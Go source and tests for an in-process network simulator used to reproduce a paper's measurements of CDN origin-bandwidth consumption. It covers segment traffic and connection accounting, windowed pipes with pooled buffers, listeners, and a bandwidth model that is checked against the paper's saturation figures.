// Segment aggregates traffic for one hop of the topology. Its counts
// are mirrored into the process-wide metrics registry under the
// segment's name, so the same additions that Probe diffs per run are
// continuously visible on /metrics; Reset zeroes only the per-segment
// counters, never the registry (which is cumulative by design).
type Segment struct {
	Name    string
	up      atomic.Int64
	down    atomic.Int64
	conns   atomic.Int64
	live    atomic.Int64 // connections opened and not yet closed by either end
	closed  atomic.Int64 // clean teardowns (local mirror of the registry counter)
	aborted atomic.Int64 // mid-transfer teardowns (closer left inbound bytes unread)

	// Registry series handles, resolved once at construction so the
	// per-byte hot path is two atomic adds and no allocation. All are
	// nil-safe, covering zero-value Segments.
	mUp, mDown                 *metrics.Counter
	mOpened, mClosed, mAborted *metrics.Counter
	gLive                      *metrics.Gauge
}

// NewSegment returns a named, zeroed segment reporting into the
// process-wide default registry. Per-run topologies should prefer
// NewSegmentIn with their own registry.
func NewSegment(name string) *Segment { return NewSegmentIn(nil, name) }

// NewSegmentIn returns a named, zeroed segment whose series resolve
// against reg. A nil reg falls back to metrics.Default — the
// daemon-facing construction boundary, kept so cdnsim/origind expose
// their segments on /metrics without extra wiring.
func NewSegmentIn(reg *metrics.Registry, name string) *Segment {
	if reg == nil {
		reg = metrics.Default
	}
	seg := metrics.L("segment", name)
	return &Segment{
		Name: name,
		mUp: reg.Counter("netsim_segment_bytes_total",
			"Application bytes transferred per segment and direction.",
			seg, metrics.L("direction", "up")),
		mDown: reg.Counter("netsim_segment_bytes_total",
			"Application bytes transferred per segment and direction.",
			seg, metrics.L("direction", "down")),
		mOpened: reg.Counter("netsim_conns_opened_total",
			"Connections opened per segment.", seg),
		mClosed: reg.Counter("netsim_conns_closed_total",
			"Connections cleanly closed per segment.", seg),
		mAborted: reg.Counter("netsim_conns_aborted_total",
			"Connections whose closer discarded unread inbound bytes per segment (mid-transfer cut).", seg),
		gLive: reg.Gauge("netsim_conns_live",
			"Connections currently open per segment (keep-alive sessions hold these between requests).", seg),
	}
}

// Traffic returns the current byte counts.
func (s *Segment) Traffic() Traffic {
	if s == nil {
		return Traffic{}
	}
	return Traffic{Up: s.up.Load(), Down: s.down.Load()}
}

// Since returns the traffic accumulated since a prior snapshot, so a
// caller can attribute one request's bytes (e.g. onto a trace span)
// without resetting the cumulative counters.
func (s *Segment) Since(prev Traffic) Traffic {
	t := s.Traffic()
	return Traffic{Up: t.Up - prev.Up, Down: t.Down - prev.Down}
}

// Conns returns the number of connections opened on the segment.
func (s *Segment) Conns() int64 {
	if s == nil {
		return 0
	}
	return s.conns.Load()
}

// Live returns the connections currently open on the segment: opened
// and not yet closed by either endpoint. Leak tests assert this drains
// to zero after topologies and pools shut down.
func (s *Segment) Live() int64 {
	if s == nil {
		return 0
	}
	return s.live.Load()
}

// WireTraffic estimates what a packet capture on this segment would
// record: application bytes plus per-packet framing and per-connection
// handshake overhead. The paper's Table V byte counts (1676B on the
// bcdn-origin connection for a 1KB resource) are capture-level, so the
// OBR experiment reports this estimate.
func (s *Segment) WireTraffic() Traffic {
	if s == nil {
		return Traffic{}
	}
	t := s.Traffic()
	conns := s.conns.Load()
	return Traffic{
		Up:   FrameEstimate(t.Up, conns),
		Down: FrameEstimate(t.Down, conns),
	}
}

// Reset zeroes the counters (between experiment iterations).
func (s *Segment) Reset() {
	if s == nil {
		return
	}
	s.up.Store(0)
	s.down.Store(0)
	s.conns.Store(0)
	s.closed.Store(0)
	s.aborted.Store(0)
}

// AddUp adds client->server bytes (for external transports that count
// their own traffic, e.g. the TCP bridge).
func (s *Segment) AddUp(n int) { s.addUp(n) }

// AddConn records a connection opened by an external transport.
// Transports that call it should pair it with ConnClosed so the live
// gauge drains.
func (s *Segment) AddConn() {
	if s != nil {
		s.conns.Add(1)
		s.live.Add(1)
		s.mOpened.Inc()
		s.gLive.Add(1)
	}
}

// ConnClosed records the teardown of a connection an external
// transport opened with AddConn (call once per connection).
func (s *Segment) ConnClosed(aborted bool) { s.noteClosed(aborted) }

// noteClosed records a connection teardown, aborted meaning in-flight
// bytes were discarded (the peer was cut off mid-transfer).
func (s *Segment) noteClosed(aborted bool) {
	if s == nil {
		return
	}
	s.live.Add(-1)
	s.gLive.Add(-1)
	if aborted {
		s.aborted.Add(1)
		s.mAborted.Inc()
	} else {
		s.closed.Add(1)
		s.mClosed.Inc()
	}
}

// AddDown adds server->client bytes.
func (s *Segment) AddDown(n int) { s.addDown(n) }

// AddBatch applies an accumulated batch of accounting in one call: up
// and down bytes, connections opened, and clean/aborted teardowns. It
// performs the same additions a matching sequence of AddUp / AddDown /
// AddConn / ConnClosed calls would — one atomic add per nonzero field
// instead of one per unit — which is what lets the event engine apply
// millions of clients' counters per event-window without making the
// segment the bottleneck.
func (s *Segment) AddBatch(up, down, conns, closed, aborted int64) {
	if s == nil {
		return
	}
	if up > 0 {
		s.up.Add(up)
		s.mUp.Add(up)
	}
	if down > 0 {
		s.down.Add(down)
		s.mDown.Add(down)
	}
	if conns > 0 {
		s.conns.Add(conns)
		s.mOpened.Add(conns)
	}
	if closed > 0 {
		s.closed.Add(closed)
		s.mClosed.Add(closed)
	}
	if aborted > 0 {
		s.aborted.Add(aborted)
		s.mAborted.Add(aborted)
	}
	if net := conns - closed - aborted; net != 0 {
		s.live.Add(net)
		s.gLive.Add(net)
	}
}

func (s *Segment) addUp(n int) {
	if s != nil && n > 0 {
		s.up.Add(int64(n))
		s.mUp.Add(int64(n))
	}
}

func (s *Segment) addDown(n int) {
	if s != nil && n > 0 {
		s.down.Add(int64(n))
		s.mDown.Add(int64(n))
	}
}

// Conn is one endpoint of a simulated connection.
type Conn interface {
	io.Reader
	io.Writer
	io.Closer
}

// pipeBufPool recycles halfPipe backing arrays across connections. The
// experiments open one connection per attack request (the paper's
// per-connection traffic observations require it), so without pooling
// every request re-grows two in-flight windows from nil; with it the
// steady-state transfer path allocates nothing. Pooling changes only
// where the window's storage comes from — the byte counters see exactly
// the same additions, so segment accounting is unaffected.
var pipeBufPool sync.Pool

// maxPooledPipeBuf bounds the capacity retained per pooled buffer
// (custom windows larger than this are dropped on close, not pooled).
const maxPooledPipeBuf = 2 * DefaultWindow

func getPipeBuf() []byte {
	if v := pipeBufPool.Get(); v != nil {
		return (*(v.(*[]byte)))[:0]
	}
	return make([]byte, 0, 4096)
}

func putPipeBuf(b []byte) {
	if cap(b) > maxPooledPipeBuf {
		return
	}
	b = b[:0]
	pipeBufPool.Put(&b)
}

// halfPipe is one direction of a connection: a bounded byte queue.
// buf[off:] holds the unread in-flight bytes; the backing array is
// pooled and reused for the lifetime of the connection (reads advance
// off instead of re-slicing, so the array is recycled once drained
// rather than released to the garbage collector).
type halfPipe struct {
	mu          sync.Mutex
	readable    sync.Cond
	writable    sync.Cond
	buf         []byte
	off         int // read offset into buf
	window      int
	writeClosed bool
	readClosed  bool
	count       func(int) // byte counter hook, called with bytes accepted
}

func newHalfPipe(window int, count func(int)) *halfPipe {
	h := &halfPipe{window: window, count: count}
	h.readable.L = &h.mu
	h.writable.L = &h.mu
	return h
}

// pending returns the unread byte count. Callers hold h.mu.
func (h *halfPipe) pending() int { return len(h.buf) - h.off }

func (h *halfPipe) write(p []byte) (int, error) {
	total := 0
	for len(p) > 0 {
		h.mu.Lock()
		for h.pending() >= h.window && !h.writeClosed && !h.readClosed {
			h.writable.Wait()
		}
		if h.writeClosed || h.readClosed {
			h.mu.Unlock()
			return total, ErrClosed
		}
		room := h.window - h.pending()
		n := len(p)
		if n > room {
			n = room
		}
		if h.buf == nil {
			h.buf = getPipeBuf()
		}
		if h.off > 0 && len(h.buf)+n > cap(h.buf) {
			// Compact the unread tail to the front so the retained
			// capacity is reused instead of grown.
			m := copy(h.buf, h.buf[h.off:])
			h.buf = h.buf[:m]
			h.off = 0
		}
		h.buf = append(h.buf, p[:n]...)
		h.count(n)
		total += n
		p = p[n:]
		h.readable.Broadcast()
		h.mu.Unlock()
	}
	return total, nil
}

func (h *halfPipe) read(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for h.pending() == 0 {
		if h.readClosed {
			return 0, ErrClosed
		}
		if h.writeClosed {
			return 0, io.EOF
		}
		h.readable.Wait()
	}
	n := copy(p, h.buf[h.off:])
	h.off += n
	if h.off == len(h.buf) {
		// Drained: rewind onto the same backing array.
		h.buf = h.buf[:0]
		h.off = 0
	}
	h.writable.Broadcast()
	return n, nil
}

// undrained reports whether written bytes are still waiting to be read.
func (h *halfPipe) undrained() bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.pending() > 0
}

func (h *halfPipe) closeWrite() {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.writeClosed = true
	h.readable.Broadcast()
	h.writable.Broadcast()
}

func (h *halfPipe) closeRead() {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.readClosed = true
	if h.buf != nil {
		putPipeBuf(h.buf)
		h.buf = nil
		h.off = 0
	}
	h.readable.Broadcast()
	h.writable.Broadcast()
}

// connState is shared by a Pipe's two endpoints so teardown is counted
// once per connection, no matter which side closes first.
type connState struct {
	seg    *Segment
	closed atomic.Bool
}

// endpoint is one side of a Pipe.
type endpoint struct {
	in  *halfPipe // peer writes here, we read
	out *halfPipe // we write here, peer reads
	st  *connState
}

func (e *endpoint) Read(p []byte) (int, error)  { return e.in.read(p) }
func (e *endpoint) Write(p []byte) (int, error) { return e.out.write(p) }

// Close tears down both directions. The peer observes EOF on data it
// has not yet drained and ErrClosed on writes. The first close of
// either endpoint classifies the connection: aborted when the closer
// leaves inbound bytes unread (it cut the peer off mid-transfer, the
// Azure first-connection case — TCP would RST), cleanly closed
// otherwise. Undelivered outbound bytes do not count: a server
// closing right after writing its response is a normal FIN-after-data
// teardown regardless of how much the client has drained.
func (e *endpoint) Close() error {
	if e.st != nil && e.st.closed.CompareAndSwap(false, true) {
		e.st.seg.noteClosed(e.in.undrained())
	}
	e.out.closeWrite()
	e.in.closeRead()
	return nil
}

var _ Conn = (*endpoint)(nil)

// Pipe creates a connection on seg with the given per-direction window
// (0 means DefaultWindow). Bytes written by the client end count as
// seg.Up; bytes written by the server end count as seg.Down.
func Pipe(seg *Segment, window int) (client, server Conn) {
	if window <= 0 {
		window = DefaultWindow
	}
	if seg != nil {
		seg.conns.Add(1)
		seg.live.Add(1)
		seg.mOpened.Inc()
		seg.gLive.Add(1)
	}
	st := &connState{seg: seg}
	c2s := newHalfPipe(window, seg.addUp)
	s2c := newHalfPipe(window, seg.addDown)
	return &endpoint{in: s2c, out: c2s, st: st}, &endpoint{in: c2s, out: s2c, st: st}
}

// Network is an in-process address space of listeners.
type Network struct {
	mu        sync.Mutex
	listeners map[string]*Listener
	Window    int // per-connection window; 0 means DefaultWindow
}

// NewNetwork returns an empty network.
func NewNetwork() *Network {
	return &Network{listeners: make(map[string]*Listener)}
}

// Listener accepts simulated connections at one address.
type Listener struct {
	addr      string
	net       *Network
	ch        chan Conn
	done      chan struct{}
	closeOnce sync.Once
}

// Listen claims addr.
func (n *Network) Listen(addr string) (*Listener, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if _, exists := n.listeners[addr]; exists {
		return nil, fmt.Errorf("%w: %s", ErrAddrInUse, addr)
	}
	l := &Listener{addr: addr, net: n, ch: make(chan Conn), done: make(chan struct{})}
	n.listeners[addr] = l
	return l, nil
}

// Dial connects to addr, attributing traffic to seg. The returned Conn
// is the client end; the server end is delivered to the listener.
func (n *Network) Dial(addr string, seg *Segment) (Conn, error) {
	n.mu.Lock()
	l := n.listeners[addr]
	window := n.Window
	n.mu.Unlock()
	if l == nil {
		return nil, fmt.Errorf("%w: %s", ErrNoListener, addr)
	}
	client, server := Pipe(seg, window)
	select {
	case l.ch <- server:
		return client, nil
	case <-l.done:
		return nil, fmt.Errorf("%w: %s", ErrNoListener, addr)
	}
}

// Accept blocks for the next inbound connection.
func (l *Listener) Accept() (Conn, error) {
	select {
	case c := <-l.ch:
		return c, nil
	case <-l.done:
		return nil, ErrListenerClose
	}
}

// Addr returns the listen address.
func (l *Listener) Addr() string { return l.addr }

// Close releases the address and wakes Accept and pending Dials.
func (l *Listener) Close() error {
	l.closeOnce.Do(func() {
		close(l.done)
		l.net.mu.Lock()
		delete(l.net.listeners, l.addr)
		l.net.mu.Unlock()
	})
	return nil
}
