package netsim

import "testing"

func TestLiveConnAccounting(t *testing.T) {
	seg := NewSegment("s")
	c1, s1 := Pipe(seg, 1<<16)
	c2, s2 := Pipe(seg, 1<<16)
	if live := seg.Live(); live != 2 {
		t.Fatalf("live = %d after two pipes, want 2", live)
	}
	c1.Close()
	if live := seg.Live(); live != 1 {
		t.Errorf("live = %d after one close, want 1", live)
	}
	// The peer closing the same conn must not double-decrement.
	s1.Close()
	if live := seg.Live(); live != 1 {
		t.Errorf("live = %d after both ends closed, want 1", live)
	}
	s2.Close()
	c2.Close()
	if live := seg.Live(); live != 0 {
		t.Errorf("live = %d after all conns closed, want 0", live)
	}
	if conns := seg.Conns(); conns != 2 {
		t.Errorf("total conns = %d, want 2 (Live does not affect the total)", conns)
	}
}

func TestLiveExternalConnLifecycle(t *testing.T) {
	// Transports outside netsim (transport.countingConn) pair AddConn
	// with ConnClosed.
	seg := NewSegment("tcp")
	seg.AddConn()
	seg.AddConn()
	if live := seg.Live(); live != 2 {
		t.Fatalf("live = %d, want 2", live)
	}
	seg.ConnClosed(false)
	seg.ConnClosed(true)
	if live := seg.Live(); live != 0 {
		t.Errorf("live = %d, want 0", live)
	}
	var nilSeg *Segment
	nilSeg.AddConn() // nil-safe like the other accessors
	nilSeg.ConnClosed(false)
	if nilSeg.Live() != 0 {
		t.Error("nil segment Live != 0")
	}
}
