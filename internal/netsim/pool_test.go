package netsim

import (
	"bytes"
	"io"
	"sync"
	"testing"
)

// TestSequentialConnectionsNoCrossContamination drives many
// connections back to back so the pipe-buffer pool is certain to hand
// buffers from closed connections to new ones, and checks every
// transfer arrives intact — pool reuse must never surface another
// connection's bytes, and byte accounting must stay exact.
func TestSequentialConnectionsNoCrossContamination(t *testing.T) {
	seg := NewSegment("reuse")
	var total int64
	for i := 0; i < 50; i++ {
		client, server := Pipe(seg, 0)
		payload := bytes.Repeat([]byte{byte('A' + i%26)}, 1000+i*37)
		var got []byte
		var rerr error
		done := make(chan struct{})
		go func() {
			defer close(done)
			got, rerr = io.ReadAll(server)
		}()
		if _, err := client.Write(payload); err != nil {
			t.Fatal(err)
		}
		client.Close()
		<-done
		if rerr != nil {
			t.Fatal(rerr)
		}
		if !bytes.Equal(got, payload) {
			t.Fatalf("conn %d: transfer corrupted (got %d bytes, want %d)", i, len(got), len(payload))
		}
		server.Close()
		total += int64(len(payload))
	}
	if tr := seg.Traffic(); tr.Up != total {
		t.Errorf("segment counted %d up bytes, want %d", tr.Up, total)
	}
}

// TestConcurrentPipesIsolated runs many pipes at once so pooled buffers
// churn under -race; each pipe's bytes must stay its own.
func TestConcurrentPipesIsolated(t *testing.T) {
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func(id int) {
			defer wg.Done()
			seg := NewSegment("par")
			client, server := Pipe(seg, 0)
			payload := bytes.Repeat([]byte{byte(id)}, 50000)
			go func() {
				client.Write(payload) //nolint:errcheck
				client.Close()
			}()
			got, err := io.ReadAll(server)
			server.Close()
			if err != nil {
				t.Errorf("pipe %d: %v", id, err)
				return
			}
			if !bytes.Equal(got, payload) {
				t.Errorf("pipe %d: corrupted transfer", id)
			}
		}(i)
	}
	wg.Wait()
}

// TestOversizedPipeBufferNotPooled checks the pool retention cap: a
// window larger than maxPooledPipeBuf must still work (the buffer is
// simply dropped on close instead of pooled).
func TestOversizedPipeBufferNotPooled(t *testing.T) {
	seg := NewSegment("big")
	net := NewNetwork()
	net.Window = maxPooledPipeBuf * 2
	l, err := net.Listen("big:80")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	payload := bytes.Repeat([]byte{0x5a}, maxPooledPipeBuf+4096)
	go func() {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		conn.Write(payload) //nolint:errcheck
		conn.Close()
	}()
	conn, err := net.Dial("big:80", seg)
	if err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(conn)
	conn.Close()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, payload) {
		t.Fatalf("got %d bytes, want %d", len(got), len(payload))
	}
}
