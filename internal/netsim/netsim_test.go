package netsim

import (
	"bytes"
	"errors"
	"io"
	"sync"
	"testing"
	"testing/quick"
	"time"

	"repro/internal/metrics"
)

func TestPipeBasicTransfer(t *testing.T) {
	seg := NewSegment("client-cdn")
	client, server := Pipe(seg, 0)
	msg := []byte("GET / HTTP/1.1\r\n\r\n")

	done := make(chan []byte, 1)
	go func() {
		buf := make([]byte, 64)
		n, err := server.Read(buf)
		if err != nil {
			t.Errorf("server read: %v", err)
		}
		done <- buf[:n]
	}()
	if _, err := client.Write(msg); err != nil {
		t.Fatal(err)
	}
	if got := <-done; !bytes.Equal(got, msg) {
		t.Errorf("server got %q", got)
	}
	tr := seg.Traffic()
	if tr.Up != int64(len(msg)) || tr.Down != 0 {
		t.Errorf("traffic = %+v, want Up=%d Down=0", tr, len(msg))
	}
}

func TestPipeBidirectionalCounting(t *testing.T) {
	seg := NewSegment("s")
	client, server := Pipe(seg, 0)
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		buf := make([]byte, 10)
		if _, err := io.ReadFull(server, buf); err != nil {
			t.Errorf("server read: %v", err)
			return
		}
		if _, err := server.Write(make([]byte, 1000)); err != nil {
			t.Errorf("server write: %v", err)
		}
	}()
	if _, err := client.Write(make([]byte, 10)); err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(io.LimitReader(client, 1000))
	if err != nil || len(got) != 1000 {
		t.Fatalf("client read %d bytes, err %v", len(got), err)
	}
	wg.Wait()
	tr := seg.Traffic()
	if tr.Up != 10 || tr.Down != 1000 {
		t.Errorf("traffic = %+v, want {10 1000}", tr)
	}
}

func TestPipeEOFAfterClose(t *testing.T) {
	seg := NewSegment("s")
	client, server := Pipe(seg, 0)
	if _, err := client.Write([]byte("abc")); err != nil {
		t.Fatal(err)
	}
	client.Close()
	got, err := io.ReadAll(server)
	if err != nil || string(got) != "abc" {
		t.Errorf("ReadAll = %q, %v", got, err)
	}
	if _, err := server.Write([]byte("x")); !errors.Is(err, ErrClosed) {
		t.Errorf("write after peer close: %v, want ErrClosed", err)
	}
}

func TestPipeWriterBlocksOnWindow(t *testing.T) {
	seg := NewSegment("s")
	client, server := Pipe(seg, 1024)
	wrote := make(chan int64, 1)
	go func() {
		n, _ := io.Copy(struct{ io.Writer }{client}, bytes.NewReader(make([]byte, 1<<20)))
		wrote <- n
	}()
	// Give the writer time to fill the window; it must stall near 1024.
	time.Sleep(50 * time.Millisecond)
	if up := seg.Traffic().Up; up > 8*1024 {
		t.Fatalf("writer ran ahead of window: %d bytes in flight", up)
	}
	// Drain everything; writer must complete.
	go io.Copy(io.Discard, server)
	if n := <-wrote; n != 1<<20 {
		t.Fatalf("writer sent %d bytes", n)
	}
	if up := seg.Traffic().Up; up != 1<<20 {
		t.Errorf("counted %d bytes", up)
	}
}

func TestEarlyCloseStopsWriterWithinWindow(t *testing.T) {
	// The Azure §V-A behaviour: the reader closes after consuming 8 KiB of
	// a much larger transfer; the writer must stop within ~one window.
	const window = 4096
	seg := NewSegment("cdn-origin")
	client, server := Pipe(seg, window)

	writerDone := make(chan error, 1)
	go func() {
		_, err := server.Write(make([]byte, 1<<20))
		writerDone <- err
	}()
	if _, err := io.ReadFull(client, make([]byte, 8192)); err != nil {
		t.Fatal(err)
	}
	client.Close()
	if err := <-writerDone; !errors.Is(err, ErrClosed) {
		t.Errorf("writer err = %v, want ErrClosed", err)
	}
	down := seg.Traffic().Down
	if down < 8192 || down > 8192+2*window {
		t.Errorf("transferred %d bytes, want within one window past 8192", down)
	}
}

func TestCloseClassification(t *testing.T) {
	// Clean: the server writes its full response and closes before the
	// client drains it — normal HTTP close-after-write teardown must not
	// count as an abort even though the response is still in the pipe.
	reg := metrics.New()
	seg := NewSegmentIn(reg, "class-test")
	before := reg.Snapshot()
	client, server := Pipe(seg, 0)
	if _, err := server.Write(make([]byte, 1024)); err != nil {
		t.Fatal(err)
	}
	server.Close()
	if _, err := io.ReadAll(client); err != nil {
		t.Fatal(err)
	}
	client.Close()
	lbl := metrics.L("segment", "class-test")
	d := reg.Snapshot().Delta(before)
	if got := d.Value("netsim_conns_closed_total", lbl); got != 1 {
		t.Errorf("closed delta = %d, want 1", got)
	}
	if got := d.Value("netsim_conns_aborted_total", lbl); got != 0 {
		t.Errorf("aborted delta = %d, want 0", got)
	}

	// Aborted: the client closes with unread response bytes in its
	// inbound pipe — a mid-transfer cut (the Azure first connection).
	before = reg.Snapshot()
	client, server = Pipe(seg, 0)
	if _, err := server.Write(make([]byte, 1024)); err != nil {
		t.Fatal(err)
	}
	client.Close()
	server.Close()
	d = reg.Snapshot().Delta(before)
	if got := d.Value("netsim_conns_aborted_total", lbl); got != 1 {
		t.Errorf("aborted delta = %d, want 1", got)
	}
	if got := d.Value("netsim_conns_closed_total", lbl); got != 0 {
		t.Errorf("closed delta = %d, want 0", got)
	}
}

func TestSegmentReset(t *testing.T) {
	seg := NewSegment("s")
	seg.addUp(10)
	seg.addDown(20)
	seg.Reset()
	if tr := seg.Traffic(); tr != (Traffic{}) {
		t.Errorf("after Reset: %+v", tr)
	}
}

func TestNilSegmentSafe(t *testing.T) {
	var seg *Segment
	seg.addUp(1)
	seg.addDown(1)
	seg.Reset()
	if tr := seg.Traffic(); tr != (Traffic{}) {
		t.Errorf("nil segment traffic: %+v", tr)
	}
	client, server := Pipe(nil, 0)
	go server.Write([]byte("ok"))
	buf := make([]byte, 2)
	if _, err := io.ReadFull(client, buf); err != nil {
		t.Fatal(err)
	}
}

func TestNetworkDialAccept(t *testing.T) {
	n := NewNetwork()
	l, err := n.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	if l.Addr() != "origin:80" {
		t.Errorf("Addr = %q", l.Addr())
	}

	seg := NewSegment("cdn-origin")
	acceptErr := make(chan error, 1)
	go func() {
		conn, err := l.Accept()
		if err != nil {
			acceptErr <- err
			return
		}
		buf := make([]byte, 5)
		if _, err := io.ReadFull(conn, buf); err != nil {
			acceptErr <- err
			return
		}
		_, err = conn.Write(bytes.ToUpper(buf))
		acceptErr <- err
	}()

	conn, err := n.Dial("origin:80", seg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write([]byte("hello")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 5)
	if _, err := io.ReadFull(conn, buf); err != nil {
		t.Fatal(err)
	}
	if string(buf) != "HELLO" {
		t.Errorf("got %q", buf)
	}
	if err := <-acceptErr; err != nil {
		t.Fatal(err)
	}
	if tr := seg.Traffic(); tr.Up != 5 || tr.Down != 5 {
		t.Errorf("traffic = %+v", tr)
	}
}

func TestNetworkErrors(t *testing.T) {
	n := NewNetwork()
	if _, err := n.Dial("nowhere:80", nil); !errors.Is(err, ErrNoListener) {
		t.Errorf("dial nowhere: %v", err)
	}
	l, err := n.Listen("a:1")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := n.Listen("a:1"); !errors.Is(err, ErrAddrInUse) {
		t.Errorf("double listen: %v", err)
	}
	l.Close()
	if _, err := n.Listen("a:1"); err != nil {
		t.Errorf("listen after close: %v", err)
	}
}

func TestListenerCloseWakesAccept(t *testing.T) {
	n := NewNetwork()
	l, _ := n.Listen("a:1")
	errCh := make(chan error, 1)
	go func() {
		_, err := l.Accept()
		errCh <- err
	}()
	time.Sleep(10 * time.Millisecond)
	l.Close()
	select {
	case err := <-errCh:
		if !errors.Is(err, ErrListenerClose) {
			t.Errorf("Accept err = %v", err)
		}
	case <-time.After(time.Second):
		t.Fatal("Accept did not wake")
	}
	// Dial after close must not hang.
	if _, err := n.Dial("a:1", nil); !errors.Is(err, ErrNoListener) {
		t.Errorf("dial closed: %v", err)
	}
	// Double close is a no-op.
	if err := l.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
}

func TestPipeDataIntegrityProperty(t *testing.T) {
	f := func(data []byte, windowSeed uint8) bool {
		window := int(windowSeed)%512 + 1
		seg := NewSegment("s")
		client, server := Pipe(seg, window)
		go func() {
			client.Write(data)
			client.Close()
		}()
		got, err := io.ReadAll(server)
		if err != nil {
			return false
		}
		return bytes.Equal(got, data) && seg.Traffic().Up == int64(len(data))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestConcurrentConnectionsCountIndependently(t *testing.T) {
	n := NewNetwork()
	l, _ := n.Listen("svc:80")
	defer l.Close()
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				io.Copy(io.Discard, conn)
			}()
		}
	}()

	const workers = 8
	segs := make([]*Segment, workers)
	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		segs[i] = NewSegment("s")
		wg.Add(1)
		go func(seg *Segment, size int) {
			defer wg.Done()
			conn, err := n.Dial("svc:80", seg)
			if err != nil {
				t.Error(err)
				return
			}
			conn.Write(make([]byte, size))
			conn.Close()
		}(segs[i], (i+1)*1000)
	}
	wg.Wait()
	for i, seg := range segs {
		if up := seg.Traffic().Up; up != int64((i+1)*1000) {
			t.Errorf("segment %d counted %d", i, up)
		}
	}
}

func TestWireTrafficEstimate(t *testing.T) {
	seg := NewSegment("s")
	client, server := Pipe(seg, 0)
	go func() {
		server.Write(make([]byte, 1448*2)) // exactly two MSS segments
		server.Close()
	}()
	if _, err := io.ReadAll(client); err != nil {
		t.Fatal(err)
	}
	wire := seg.WireTraffic()
	// app 2896 + 2 packets * 66 + 1 conn * 200 = 3228.
	if wire.Down != 2896+2*66+200 {
		t.Errorf("wire down = %d, want 3228", wire.Down)
	}
	if seg.Conns() != 1 {
		t.Errorf("conns = %d", seg.Conns())
	}
	// One more byte rolls over to a third packet.
	seg.Reset()
	client2, server2 := Pipe(seg, 0)
	go func() {
		server2.Write(make([]byte, 1448*2+1))
		server2.Close()
	}()
	io.ReadAll(client2)
	if wire := seg.WireTraffic(); wire.Down != 2897+3*66+200 {
		t.Errorf("wire down = %d, want %d", wire.Down, 2897+3*66+200)
	}
}
