package bwsim

import "testing"

func paperConfig(m int) Config {
	return Config{
		LinkBitsPerSec:        1e9,
		PerRequestOriginBytes: 10 << 20, // 10 MB resource
		PerRequestClientBytes: 700,
		RequestsPerSecond:     m,
		DurationSec:           30,
	}
}

func TestProportionalBelowSaturation(t *testing.T) {
	// Fig 7b: for m <= 10 origin consumption is almost proportional to m.
	base := SteadyOriginMbps(Run(paperConfig(1)), 30)
	if base < 70 || base > 100 {
		t.Fatalf("m=1 steady = %.1f Mbps, want ~86", base)
	}
	for m := 2; m <= 10; m++ {
		got := SteadyOriginMbps(Run(paperConfig(m)), 30)
		want := base * float64(m)
		if got < want*0.9 || got > want*1.1 {
			t.Errorf("m=%d steady = %.1f Mbps, want ~%.1f (proportional)", m, got, want)
		}
	}
}

func TestSaturationAtHighM(t *testing.T) {
	// Fig 7b: m >= 14 exhausts the 1000 Mbps link.
	for m := 14; m <= 15; m++ {
		samples := Run(paperConfig(m))
		if !Saturated(samples, paperConfig(m), 0.97) {
			t.Errorf("m=%d: steady = %.1f Mbps, want saturation",
				m, SteadyOriginMbps(samples, 30))
		}
	}
	// And m=5 must not saturate.
	if Saturated(Run(paperConfig(5)), paperConfig(5), 0.97) {
		t.Error("m=5 saturated the link")
	}
}

func TestNeverExceedsCapacity(t *testing.T) {
	for _, m := range []int{1, 11, 15, 50} {
		for _, s := range Run(paperConfig(m)) {
			if s.OriginOutMbps > 1000.5 {
				t.Fatalf("m=%d sec=%d: %.2f Mbps exceeds the link", m, s.Second, s.OriginOutMbps)
			}
		}
	}
}

func TestClientIncomingStaysTiny(t *testing.T) {
	// Fig 7a: client incoming consumption is under 500 Kbps for all m.
	for _, m := range []int{1, 5, 10, 15} {
		for _, s := range Run(paperConfig(m)) {
			if s.ClientInKbps > 500 {
				t.Errorf("m=%d sec=%d: client %.1f Kbps, want < 500", m, s.Second, s.ClientInKbps)
			}
		}
	}
}

func TestBacklogDrainsAfterAttack(t *testing.T) {
	samples := Run(paperConfig(15))
	last := samples[len(samples)-1]
	if last.ActiveFlows != 0 {
		t.Errorf("backlog never drained: %d flows at sec %d", last.ActiveFlows, last.Second)
	}
	if last.Second < 30 {
		t.Errorf("simulation ended during the attack (sec %d)", last.Second)
	}
}

func TestDeterminism(t *testing.T) {
	a := Run(paperConfig(7))
	b := Run(paperConfig(7))
	if len(a) != len(b) {
		t.Fatal("lengths differ")
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("sample %d differs: %+v vs %+v", i, a[i], b[i])
		}
	}
}

func TestPeak(t *testing.T) {
	samples := []Sample{{OriginOutMbps: 5}, {OriginOutMbps: 42}, {OriginOutMbps: 7}}
	if PeakOriginMbps(samples) != 42 {
		t.Error("PeakOriginMbps wrong")
	}
	if PeakOriginMbps(nil) != 0 {
		t.Error("empty peak")
	}
}

func TestSteadyEmptyWindow(t *testing.T) {
	if SteadyOriginMbps(nil, 30) != 0 {
		t.Error("empty steady")
	}
}

func TestDefaultsApplied(t *testing.T) {
	cfg := paperConfig(3)
	cfg.WireOverheadFactor = 0
	cfg.TickMs = 0
	samples := Run(cfg)
	if len(samples) == 0 {
		t.Fatal("no samples")
	}
	// Overhead default inflates payload slightly above the raw rate.
	steady := SteadyOriginMbps(samples, 30)
	raw := 3 * 10 * float64(1<<20) * 8 / 1e6
	if steady <= raw {
		t.Errorf("steady %.2f <= raw %.2f, overhead not applied", steady, raw)
	}
}
